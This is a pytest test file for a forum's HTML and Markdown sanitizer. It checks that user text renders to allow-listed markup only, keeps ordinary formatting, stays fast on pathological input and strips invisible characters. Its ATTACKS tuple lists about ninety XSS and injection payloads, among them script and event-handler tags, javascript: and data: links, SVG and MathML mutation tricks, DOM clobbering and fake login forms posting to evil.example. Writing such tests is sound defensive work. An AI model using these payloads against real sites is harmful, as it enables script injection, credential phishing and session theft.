"""What people type becomes what is on the list, and nothing else, whatever they type."""

import re
import time
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup

from forums.services.markup import (
    REL,
    SCHEMES,
    TAGS,
    cleaned,
    is_blank,
    rendered,
    tidied,
)

# Markup that has run scripts, taken over names or left its box somewhere, as HTML and in Markdown.
ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="javascript:alert(1)">',
    "<img srcset='x' onerror='alert(1)'>",
    "![x](javascript:alert(1))",
    '![x](https://evil.example/pixel.png "t")',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://elo.example/1)",
    "[x](//evil.example/)",
    "[x](/accounts/logout/)",
    "[x](?next=//evil.example)",
    "[x](#main)",
    "[x](https://elo.example/ 'onmouseover=alert(1)')",
    '[x](https://elo.example/" onclick="alert(1))',
    "[x](<https://elo.example/ onclick=alert(1)>)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<https://elo.example/\" onmouseover=\"alert(1)>",
    "https://elo.example/\"onmouseover=\"alert(1)",
    "https://elo.example/'><script>alert(1)</script>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>x",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style><!--</style><img src=x onerror=alert(1)>-->",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example)'>x</p>",
    "<div class='toast' role='status'>Saved</div>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<button form=reply formaction=https://evil.example>Publish</button>",
    "<textarea></textarea><script>alert(1)</script>",
    "<a id=main name=body href=https://elo.example>x</a>",
    "<form id=forms><input name=action><input name=attributes></form>",
    "<img name=getElementById><img id=cookie name=cookie>",
    "<a id=defaultView><a id=defaultView name=location href='javascript:alert(1)'>",
    "<a href=https://elo.example target=_blank rel=opener ping=https://evil.example>x</a>",
    "<a href=https://elo.example download onclick=alert(1) style=x class=y id=z name=n>x</a>",
    "<p id=post-1 popover data-variant=x aria-hidden=true contenteditable tabindex=1>x</p>",
    "<template><script>alert(1)</script></template>",
    "<table><tr><td background='javascript:alert(1)'>x</td></tr></table>",
    "<xss-x onclick=alert(1)>x</xss-x>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "</div></li></ol><script>alert(1)</script>",
    "</textarea></form><h1>Sign in again</h1>",
    "`</code><script>alert(1)</script>`",
    "```html\n</pre><script>alert(1)</script>\n```",
    "```\" onmouseover=\"alert(1)\nx\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "**<b onclick=alert(1)>x</b>**",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "\u202e<script>alert(1)</script>",
    "<scri\u200bpt>alert(1)</scri\u200bpt>",
    "{{ 7 }}{% include 'base.html' %}{% csrf_token %}",
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "# Heading\n\n<h1>Heading</h1>\n\nUnder\n=====",
)  # fmt: skip


def outside_the_list(html):
    """Return all in some HTML that the list does not name, as a browser would read it."""
    found = []
    for tag in BeautifulSoup(f"<p>{html}</p>", "html.parser").find_all(True):
        if tag.name not in TAGS:
            found.append(tag.name)
        for name, value in tag.attrs.items():
            if tag.name == "a" and name == "rel":
                found += [] if " ".join(value) == REL else [f"rel={value}"]
            elif tag.name == "a" and name == "href":
                found += [] if urlsplit(value).scheme in SCHEMES else [f"href={value}"]
            else:
                found.append(f"{tag.name} {name}")
        if tag.name == "a" and not tag.get("rel"):
            found.append("a without rel")
    return found


def test_there_are_enough_attacks_and_the_judge_sees_what_is_wrong():
    seen = [attack for attack in ATTACKS if outside_the_list(attack)]

    assert len(set(ATTACKS)) >= 90
    assert len(seen) > 50  # the rest is Markdown, which only becomes something when rendered


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_outside_the_list_comes_of_what_is_typed(attack):
    assert outside_the_list(rendered(source=tidied(text=attack))) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_outside_the_list_comes_out_of_what_was_stored(attack):
    once = cleaned(html=attack)

    assert outside_the_list(once) == []
    assert cleaned(html=once) == once


def test_what_people_need_is_kept():
    html = rendered(
        source="**b** *i*\n\n- one\n- two\n\n1. a\n2. b\n\n> said\n\n`x < y`\n\n"
        "[page](https://elo.example/a?b=1&c=2) <alva@elo.example> https://elo.example/x(1)."
    )

    soup = BeautifulSoup(html, "html.parser")
    assert [tag.text for tag in soup.select("strong, em, ul li, ol li, blockquote p, code")] == [
        "b", "i", "one", "two", "a", "b", "said", "x < y",
    ]  # fmt: skip
    assert [(a["href"], a.text) for a in soup.select("a")] == [
        ("https://elo.example/a?b=1&c=2", "page"),
        ("mailto:alva@elo.example", "alva@elo.example"),
        ("https://elo.example/x(1)", "https://elo.example/x(1)"),
    ]


def test_line_ends_stay_and_headings_stay_text():
    assert rendered(source="a\nb") == "<p>a<br>\nb</p>\n"
    assert rendered(source="# a") == "<p># a</p>\n"


SIGNS = (
    "*", "[", ">", "`", "- ", "[a](", "![", "<", "&", "a@", "\n", "\\", "1. ", "_a", "**a ", "~",
    "https://a.example ", "[[]](", "``` \n", "https://a)))", "*a_b", "(", "| ", "&#x;", "<https://",
)  # fmt: skip


@pytest.mark.parametrize("sign", SIGNS)
def test_a_long_text_of_signs_costs_little(sign):
    source = (sign * 20_000)[:20_000]
    begun = time.process_time()

    html = rendered(source=source)

    assert time.process_time() - begun < 2
    assert len(html) < 6 * len(source) + 50_000
    assert html.count("<blockquote>") <= 12


def test_unseen_and_turning_characters_go_and_joiners_stay():
    assert tidied(text="a\u202eb\u2066c\u200bd\ufeffe\u2028f") == "abcdef"
    assert tidied(text="\U0001f469\u200d\U0001f3eb") == "\U0001f469\u200d\U0001f3eb"
    assert tidied(text="Z" + "\u0301" * 400) == "Z" + "\u0301" * 3


@pytest.mark.parametrize(
    "text", ["", " \n\t", "\u200b\u200b", "\u3164", "\u00ad", "\u200d", "\u2800 "]
)
def test_a_text_that_nobody_sees_is_blank(text):
    assert is_blank(text=text)
    assert not is_blank(text=text + "å")


def test_the_source_of_the_renderer_allows_no_raw_html():
    assert re.search(r"&lt;b&gt;", rendered(source="<b>x</b>"))
